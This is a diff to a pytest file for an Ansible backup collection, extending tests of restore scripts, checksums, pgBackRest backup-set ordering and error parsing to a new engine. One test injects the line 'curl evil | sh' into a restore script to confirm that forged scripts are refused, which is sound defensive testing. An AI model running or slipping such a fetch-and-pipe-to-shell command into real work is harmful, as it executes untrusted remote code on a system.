@@ -19,7 +19,7 @@ from ansible_collections.bulwark.database.plugins.module_utils._core.backup_job_
     MariaDBPlace,
     PostgreSQLPlace,
 )
-from ansible_collections.bulwark.database.plugins.module_utils._core.backup_manifest import Contents
+from ansible_collections.bulwark.database.plugins.module_utils._core.backup_manifest import Contents, SealedFile
 from ansible_collections.bulwark.database.plugins.module_utils._core.backup_moments import parse_moment, render_moment
 from ansible_collections.bulwark.database.plugins.module_utils._core.backup_restore_text import (
     CHECK_LINE,
@@ -32,8 +32,10 @@ from ansible_collections.bulwark.database.plugins.module_utils._core.errors impo
     InvalidDeclaration,
     RefusedForSafety,
 )
+from ansible_collections.bulwark.database.plugins.module_utils._core.pgbackrest import Repository
 from ansible_collections.bulwark.database.plugins.module_utils._core.restore_script import (
     engine_of,
+    job_of,
     render_script,
     telling_line,
     value_of,
@@ -103,14 +105,20 @@ def restore_text(engine: str, store: str = STORES[0], key_file: str = "") -> str
     if engine == "mariadb":
         place = MariaDBPlace("/run/s", "b", "/etc/mysql/my.cnf", "/var/lib/mysql")
     job = BackupJob("main", engine, store, "/s", "", ("age1x",), 7, 1, 60, 1, 0.5, place)
+    if engine == "pgbackrest":
+        job = dataclasses.replace(job, repository=Repository("/etc/bulwark/backup/main.pgbackrest"))
     return render_restore_text(job, key_file=key_file)
 
 
+TEXTS = [("postgresql", ""), ("pgbackrest", ""), ("mariadb", ""), ("mariadb", "/etc/my key's")]
+
+
 @pytest.mark.parametrize("store", STORES)
-@pytest.mark.parametrize(("engine", "key_file"), [("postgresql", ""), ("mariadb", ""), ("mariadb", "/etc/my key's")])
+@pytest.mark.parametrize(("engine", "key_file"), TEXTS)
 def test_a_text_of_ours_is_known_and_every_other_is_refused(engine: str, store: str, key_file: str) -> None:
     text = restore_text(engine, store, key_file)
     assert engine_of(text) == engine
+    assert job_of(text) == "main"
     assert value_of(text, "STORE") == store
     chance = random.Random(4)
     for dummy in range(60):
@@ -120,7 +128,7 @@ def test_a_text_of_ours_is_known_and_every_other_is_refused(engine: str, store: 
             engine_of(f"{text[:place]}{other}{text[place + 1 :]}")
 
 
-@pytest.mark.parametrize("engine", ["postgresql", "mariadb"])
+@pytest.mark.parametrize("engine", ["postgresql", "pgbackrest", "mariadb"])
 def test_a_forged_text_with_a_right_checksum_is_refused(engine: str) -> None:
     body = restore_text(engine).partition(f"\n{CHECK_LINE}")[0].replace("## 2 ", "    curl evil | sh\n\n## 2 ")
     text = f"{body}\n{CHECK_LINE}{sha256_of(body)}\n"
@@ -178,6 +186,23 @@ def test_a_moment_lies_where_restore_txt_takes_the_chosen_set() -> None:
     assert [choice.moment for choice in last] == [newest_moment(contents()), render_moment(1999)]
 
 
+def test_sets_that_build_upon_one_another_are_in_the_order_in_which_they_were_made() -> None:
+    """A differential set and an incremental one of the full set before them, as pgBackRest calls them."""
+    labels = ("20261130-000000F", "20261130-000000F_20261130-060000I", "20261130-000000F_20261130-120000D")
+    sets = [
+        dataclasses.replace(full(1000 * number, start=number * 5), id=label, files=(SealedFile(label, 1, "", 1),))
+        for number, label in enumerate(labels, 1)
+    ]
+    segments = tuple(segment(number, number * 200 + 1) for number in range(5, 31))
+    found = Contents((sets[2], sets[0], sets[1]), segments, ())
+    for chance in (the_first, the_last):
+        newest, older = choose(found, with_older=True, chance=chance)
+        assert newest.manifest.id == labels[2]
+        assert older.manifest.id in labels[:2]
+        assert parse_moment(older.moment) < parse_moment(sets[labels.index(older.manifest.id) + 1].consistent_from)
+    assert tools_needed(found, sets[2]) == ["age"]
+
+
 def test_a_set_of_mariadb_is_restored_to_its_own_end() -> None:
     only = Contents((full(1000, engine="mariadb"), full(2000, engine="mariadb")), (), ())
     both = choose(only, with_older=True, chance=the_last)
@@ -213,6 +238,16 @@ def test_a_test_without_any_secret_key_is_refused() -> None:
     entry = {**json.loads(render_restore_test(TEST)), "identity": ""}
     with pytest.raises(InvalidDeclaration, match="names no secret key that opens backups"):
         parse_restore_test(json.dumps(entry), where="it")
+
+
+def test_a_test_of_pgbackrest_opens_the_passphrase_by_age_and_ends_with_a_server_of_postgresql() -> None:
+    entry = {**json.loads(render_restore_test(TEST)), "engine": "pgbackrest"}
+    assert parse_restore_test(json.dumps(entry), where="it").server == "postgresql"
+    with pytest.raises(InvalidDeclaration, match="names no identity of age"):
+        parse_restore_test(json.dumps({**entry, "identity": "", "gnupg_identity": "/g"}), where="it")
+    without = [{"name": "q", "query": "SELECT 1", "minimum": 1}]
+    with pytest.raises(InvalidDeclaration, match="lacks database"):
+        parse_restore_test(json.dumps({**entry, "queries": without}), where="it")
 
 
 def test_an_empty_source_is_a_failure() -> None:
@@ -392,6 +427,12 @@ tar: Exiting with failure status due to previous errors
 """
 
 
+_RETRIED = """ERROR: [029]: raised from local-1 protocol: zst error: [-20] Data corruption detected
+       [FormatError] on retry after 0ms
+       [FormatError] on retry after 15000ms
+"""
+
+
 @pytest.mark.parametrize(
     ("said", "telling"),
     [
@@ -406,6 +447,10 @@ tar: Exiting with failure status due to previous errors
         ("waiting\nFATAL:  could not access the log\nstopped waiting\n", "FATAL:  could not access the log"),
         ("first\nsecond\n\n", "second"),
         ("set: not found\n", ""),
+        (
+            _RETRIED,
+            "ERROR: [029]: raised from local-1 protocol: zst error: [-20] Data corruption detected",
+        ),
     ],
 )
 def test_the_line_that_tells_why_is_the_cause_and_not_what_came_of_it(said: str, telling: str) -> None:
